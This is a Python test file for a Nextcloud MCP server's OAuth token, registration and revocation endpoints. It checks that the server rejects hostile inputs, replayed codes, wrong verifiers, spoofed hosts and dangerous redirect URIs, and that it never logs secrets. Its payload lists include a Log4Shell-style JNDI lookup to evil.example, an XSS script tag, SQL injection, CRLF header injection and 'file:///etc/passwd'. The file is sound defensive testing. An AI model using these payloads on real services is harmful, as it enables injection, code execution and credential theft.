"""Hostile programs at `/token`, `/register` and `/revoke`: what they send, and what must come of it."""

import json
import logging
from collections.abc import AsyncGenerator
from datetime import timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote_plus

import httpx2
import pytest
from pydantic import SecretStr

from nextcloud_mcp_server.storage.crypto import KeyRing, new_key
from nextcloud_mcp_server.storage.engine import file_url
from nextcloud_mcp_server.web.limits import Rates
from tests.oauth_api_fixtures import PUBLIC, OAuthApiFixture, basic, open_api, raw_basic, refresh_form
from tests.tokens_fixtures import CALLBACK, RESOURCE, VERIFIER, challenge_of

FORM = {"Content-Type": "application/x-www-form-urlencoded"}
GRACE = timedelta(minutes=10)


@pytest.fixture
def sqlite_url(tmp_path: Path) -> str:
    return file_url(tmp_path / "api.db")


@pytest.fixture(params=["sqlite", "postgres"])
def each_url(request: pytest.FixtureRequest) -> str:
    """Name an empty place in each kind of database: they differ in the texts that they take."""
    return request.getfixturevalue(f"{request.param}_url")


@pytest.fixture
async def api(sqlite_url: str) -> AsyncGenerator[OAuthApiFixture]:
    keys = KeyRing.parse([SecretStr(new_key())])
    async with open_api(sqlite_url, keys, rates=Rates(client=10_000)) as harness:
        yield harness


@pytest.fixture
async def http(api: OAuthApiFixture) -> AsyncGenerator[httpx2.AsyncClient]:
    async with api.http() as client:
        yield client


async def tokens_in_use(api: OAuthApiFixture) -> int:
    return sum((await api.desk.database.oauth_tokens.count_users()).values())


HOSTILE = [
    "\0",
    "mcp-\0claude",
    "x" * 30_000,
    "\r\nSet-Cookie: a=b",
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "\u202eexe.edualc",
    "\ud7ff\ue000\U0010ffff",
    "%00",
    "${jndi:ldap://evil.example/a}",
    "ncc_" + "A" * 43 + "\n",
    "ncr_" + "A" * 65 + "\0",
]


async def test_whatever_a_parameter_holds_it_is_refused_and_never_repeated(each_url: str) -> None:
    names = ("client_id", "code", "redirect_uri", "code_verifier", "refresh_token", "resource")
    keys = KeyRing.parse([SecretStr(new_key())])

    async with open_api(each_url, keys, rates=Rates(client=10_000)) as api, api.http() as http:
        tokens = await api.connected(http)
        ways = [await api.code_form(tokens["client_id"]), refresh_form(tokens)]
        answers = [
            (value, await http.post("/token", data={**form, name: value}))
            for form in ways
            for name in names
            if name in form or name == "resource"
            for value in HOSTILE
        ]
        answers += [
            (value, await http.post("/revoke", data={"client_id": client_id, "token": token}))
            for value in HOSTILE
            for client_id, token in ((value, "x"), (value, value))
        ]
        answers += [(value, await http.post("/token", headers=basic(value, value))) for value in HOSTILE]
        alive = await http.post("/token", data=refresh_form(tokens))

    assert [(value, answer.text) for value, answer in answers if answer.status_code not in (400, 401)] == []
    assert [value for value, answer in answers if len(value) > 4 and value in answer.text] == []
    assert alive.status_code == 200


@pytest.mark.parametrize("body", [b"client_id=%ED%A0%80", b"client_id=%C0%80", b"%FF=1", b"client_id=a;b=%"])
@pytest.mark.parametrize("path", ["/token", "/revoke"])
async def test_bytes_that_are_no_text_are_refused(http: httpx2.AsyncClient, path: str, body: bytes) -> None:
    answer = await http.post(path, content=body, headers=FORM)

    assert answer.status_code in (400, 401)
    assert answer.json()["error"] in ("invalid_request", "invalid_client")


@pytest.mark.parametrize(
    ("verifier", "error"),
    [
        ("", "invalid_request"),
        (challenge_of(VERIFIER), "invalid_grant"),
        (VERIFIER[:-1], "invalid_grant"),
        (VERIFIER.upper(), "invalid_grant"),
        (f"{VERIFIER} ", "invalid_grant"),
        ("v" * 42, "invalid_grant"),
        ("v" * 129, "invalid_grant"),
    ],
)
async def test_a_code_is_good_only_for_the_client_with_its_verifier(
    api: OAuthApiFixture, http: httpx2.AsyncClient, verifier: str, error: str
) -> None:
    client_id = str((await api.registered(http))["client_id"])
    form = await api.code_form(client_id)

    answer = await http.post("/token", data={**form, "code_verifier": verifier})
    again = await http.post("/token", data=form)

    assert answer.json()["error"] == error
    # Anyone who guesses has one try; anyone who forgot it may send it after all.
    assert again.status_code == (200 if error == "invalid_request" else 400)


@pytest.mark.parametrize(
    "redirect_uri",
    [
        f"{CALLBACK}/",
        f"{CALLBACK}?a=b",
        f"{CALLBACK}#",
        CALLBACK.upper(),
        CALLBACK.replace("127.0.0.1", "localhost"),
        CALLBACK.replace("33418", "33419"),
        f" {CALLBACK}",
        quote_plus(CALLBACK),
    ],
)
async def test_a_code_is_good_only_for_the_address_that_it_was_sent_to(
    api: OAuthApiFixture, http: httpx2.AsyncClient, redirect_uri: str
) -> None:
    client_id = str((await api.registered(http))["client_id"])
    form = await api.code_form(client_id)

    answers = [
        await http.post("/token", data={**form, "redirect_uri": redirect_uri}),
        await http.post("/token", data=form),
    ]

    assert [answer.json()["error"] for answer in answers] == ["invalid_grant"] * 2
    assert await tokens_in_use(api) == 0


async def test_a_code_that_another_client_holds_is_nothing_to_it_and_ends_nothing(
    api: OAuthApiFixture, http: httpx2.AsyncClient
) -> None:
    victim, thief = [
        str((await api.registered(http, client_name=name))["client_id"]) for name in ("Claude", "Thief")
    ]
    form = await api.code_form(victim)

    before = await http.post("/token", data={**form, "client_id": thief})
    taken = await http.post("/token", data=form)
    after = await http.post("/token", data={**form, "client_id": thief})

    assert [before.json()["error"], after.json()["error"]] == ["invalid_grant"] * 2
    assert taken.status_code == 200
    assert await api.desk.tokens.verify(taken.json()["access_token"])


async def test_a_code_that_comes_twice_ends_what_it_gave(
    api: OAuthApiFixture, http: httpx2.AsyncClient
) -> None:
    form = await api.code_form(str((await api.registered(http))["client_id"]))
    given = (await http.post("/token", data=form)).json()

    again = await http.post("/token", data=form)

    assert again.json()["error"] == "invalid_grant"
    assert await tokens_in_use(api) == 0
    renewed = await http.post("/token", data=refresh_form({**given, "client_id": form["client_id"]}))
    assert renewed.json()["error"] == "invalid_grant"


async def test_a_code_of_a_minute_ago_is_over(api: OAuthApiFixture, http: httpx2.AsyncClient) -> None:
    form = await api.code_form(str((await api.registered(http))["client_id"]))
    api.desk.moment.forward(timedelta(seconds=60))

    assert (await http.post("/token", data=form)).json()["error"] == "invalid_grant"


async def test_tokens_are_good_for_their_own_kind_and_client_alone(
    api: OAuthApiFixture, http: httpx2.AsyncClient
) -> None:
    tokens = await api.connected(http)
    thief = str((await api.registered(http, client_name="Thief"))["client_id"])
    code = (await api.code_form(tokens["client_id"]))["code"]

    answers = [
        await http.post("/token", data=refresh_form(tokens, client_id=thief)),
        await http.post("/token", data=refresh_form(tokens, refresh_token=tokens["access_token"])),
        await http.post("/token", data=refresh_form(tokens, refresh_token=code)),
        await http.post(
            "/token",
            data={**await api.code_form(tokens["client_id"]), "code": tokens["refresh_token"]},
        ),
    ]
    foreign = await http.post("/revoke", data={"client_id": thief, "token": tokens["refresh_token"]})

    assert {answer.json()["error"] for answer in answers} == {"invalid_grant"}
    assert foreign.status_code == 200
    assert (await http.post("/token", data=refresh_form(tokens))).status_code == 200


async def test_an_old_refresh_token_ends_everything_once_its_grace_is_over(
    api: OAuthApiFixture, http: httpx2.AsyncClient
) -> None:
    tokens = await api.connected(http)
    newer = (await http.post("/token", data=refresh_form(tokens))).json()
    api.desk.moment.forward(GRACE + timedelta(seconds=1))

    stale = await http.post("/token", data=refresh_form(tokens))

    assert stale.json()["error"] == "invalid_grant"
    after = await http.post("/token", data=refresh_form({**newer, "client_id": tokens["client_id"]}))
    assert after.json()["error"] == "invalid_grant"
    assert await tokens_in_use(api) == 0


async def test_a_wrong_resource_is_noticed_before_anything_is_spent(
    api: OAuthApiFixture, http: httpx2.AsyncClient
) -> None:
    form = await api.code_form(str((await api.registered(http))["client_id"]))
    wrong = ("https://evil.example/mcp", "https://mcp.example.org", f"{RESOURCE}/x", f"{RESOURCE}//", "mcp")

    answers = [await http.post("/token", data={**form, "resource": resource}) for resource in wrong]
    tokens = (await http.post("/token", data={**form, "resource": RESOURCE})).json()
    refreshed = [
        await http.post(
            "/token", data=refresh_form({**tokens, "client_id": form["client_id"]}, resource=resource)
        )
        for resource in wrong
    ]

    assert {answer.json()["error"] for answer in (*answers, *refreshed)} == {"invalid_target"}
    assert (
        await http.post("/token", data=refresh_form({**tokens, "client_id": form["client_id"]}))
    ).status_code == 200


async def test_what_is_in_the_address_is_no_form(api: OAuthApiFixture, http: httpx2.AsyncClient) -> None:
    form = refresh_form(await api.connected(http))

    empty = await http.post("/token", params=form, headers=FORM)
    got = await http.get("/token", params=form)

    assert (empty.status_code, got.status_code) == (401, 405)
    assert (await http.post("/token", data=form)).status_code == 200


async def test_a_wrong_secret_is_refused_and_a_public_client_has_none(
    api: OAuthApiFixture, http: httpx2.AsyncClient
) -> None:
    registered = await api.registered(http, token_endpoint_auth_method="client_secret_basic")
    client_id, secret = str(registered["client_id"]), str(registered["client_secret"])
    form = await api.code_form(client_id)
    wrong = ("", "x", secret[:-1], f"{secret}x", secret.swapcase(), f"{secret}\0", "ü" * 40)

    answers = [await http.post("/token", data={**form, "client_secret": text}) for text in wrong]
    answers += [await http.post("/token", data=form, headers=basic(client_id, text)) for text in wrong]
    answers.append(await http.post("/token", data=form, headers=raw_basic(f"{client_id}:%")))
    right = await http.post("/token", data=form, headers=basic(client_id, secret))

    assert {(answer.status_code, answer.json()["error"]) for answer in answers} == {(401, "invalid_client")}
    assert right.status_code == 200


@pytest.mark.parametrize("depth", [65, 10_000])
async def test_nested_json_costs_nothing(http: httpx2.AsyncClient, depth: int) -> None:
    body = b'{"redirect_uris":' + b"[" * depth + b"]" * depth + b"}"

    answer = await http.post("/register", content=body, headers={"Content-Type": "application/json"})

    assert answer.json()["error"] == "invalid_client_metadata"


@pytest.mark.parametrize(
    "uri",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        "file:///etc/passwd",
        "//evil.example/",
        "https://evil.example/#x",
        "https://user:pass@evil.example/",
        "https://evil.example\\@good.example/",
        "https://evil.example/\r\nSet-Cookie: a=b",
        "https://evil.example/\0",
        "http://evil.example/callback",
        "\u202ehttps://evil.example/",
        "",
        7,
        None,
        ["https://evil.example/"],
    ],
)
async def test_a_dangerous_address_is_never_registered(http: httpx2.AsyncClient, uri: object) -> None:
    alone = await http.post("/register", json={**PUBLIC, "redirect_uris": [uri]})
    beside = await http.post("/register", json={**PUBLIC, "redirect_uris": [CALLBACK, uri]})

    assert alone.status_code == 400
    assert beside.status_code == 400 or beside.json()["redirect_uris"] == [CALLBACK]


async def _everything(api: OAuthApiFixture, http: httpx2.AsyncClient) -> list[httpx2.Response]:
    """Ask for everything, well and badly."""
    tokens = await api.connected(http)
    form, well_known = refresh_form(tokens), "/.well-known/oauth-authorization-server"
    return [
        await http.post("/register", json=PUBLIC),
        await http.post("/register", json=[]),
        await http.post("/token", data=form),
        await http.post("/token", data={**form, "refresh_token": "x"}),
        await http.post("/token", data={**form, "client_id": "x"}),
        await http.post("/token", content=b"x" * 70_000, headers=FORM),
        await http.post("/revoke", data={"client_id": tokens["client_id"], "token": "x"}),
        await http.post("/revoke", data={}),
        *[await http.request(method, "/token") for method in ("GET", "HEAD", "PUT", "DELETE", "OPTIONS")],
        *[await http.get(path) for path in (well_known, "/.well-known/jwks.json", "/.well-known/x")],
    ]


async def test_no_answer_sets_a_cookie_and_each_may_be_read_by_pages_that_hold_none(
    api: OAuthApiFixture, http: httpx2.AsyncClient
) -> None:
    http.headers["Origin"] = "https://evil.example"

    for answer in await _everything(api, http):
        assert "Set-Cookie" not in answer.headers
        assert answer.headers["Access-Control-Allow-Origin"] == "*"
        assert "Access-Control-Allow-Credentials" not in answer.headers
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.headers.get("Content-Type", "application/json") == "application/json"
        if answer.request.method == "POST":
            assert answer.headers["Cache-Control"] == "no-store"


async def test_what_a_browser_adds_by_itself_counts_for_nothing(
    api: OAuthApiFixture, http: httpx2.AsyncClient
) -> None:
    tokens = await api.connected(http)
    browsers = {
        "Origin": "https://evil.example",
        "Sec-Fetch-Site": "cross-site",
        "Cookie": f"session=x; client_id={tokens['client_id']}; refresh_token={tokens['refresh_token']}",
    }

    bare = await http.post("/token", data={"grant_type": "refresh_token"}, headers=browsers)
    whole = await http.post("/token", data=refresh_form(tokens), headers=browsers)

    assert bare.status_code == 401
    assert whole.status_code == 200


@pytest.mark.parametrize("host", ["evil.example", "mcp.example.org.evil.example", "mcp.example.org:1", ""])
async def test_no_endpoint_answers_under_another_name(http: httpx2.AsyncClient, host: str) -> None:
    answers = [
        await http.post(path, headers={"Host": host})
        for path in ("/token", "/register", "/revoke", "/.well-known/oauth-authorization-server")
    ]

    assert {answer.status_code for answer in answers} == {421}


async def test_no_library_logs_a_secret_at_debug(
    api: OAuthApiFixture, http: httpx2.AsyncClient, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    registered = await api.registered(http, token_endpoint_auth_method="client_secret_basic")
    client_id, secret = str(registered["client_id"]), str(registered["client_secret"])
    form, proof = await api.code_form(client_id), basic(client_id, secret)
    given = (await http.post("/token", data=form, headers=proof)).json()
    renew = refresh_form({**given, "client_id": client_id})
    renewed = (await http.post("/token", data=renew, headers=proof)).json()
    wrong: list[tuple[str, Any]] = [
        ("/token", {"data": form, "headers": proof}),
        ("/token", {"data": {**renew, "client_secret": secret}, "headers": proof}),
        ("/token", {"json": renew, "headers": proof}),
        ("/token", {"content": json.dumps([secret, form]), "headers": FORM}),
        ("/revoke", {"data": {"client_id": client_id, "token": renewed["access_token"]}, "headers": proof}),
        ("/register", {"content": f"[{secret!r}]", "headers": {"Content-Type": "application/json"}}),
    ]
    for path, sent in wrong:
        await http.post(path, **sent)
    api.broken = RuntimeError("a fault of ours")
    await http.post("/token", data={**renew, "client_secret": secret})

    text = "\n".join(logging.Formatter().format(record) for record in caplog.records)
    secrets = [secret, form["code"], VERIFIER, proof["Authorization"].split()[1]]
    secrets += [answer[name] for answer in (given, renewed) for name in ("access_token", "refresh_token")]
    assert [one for one in secrets if one in text] == []
    assert "a fault of ours" in text
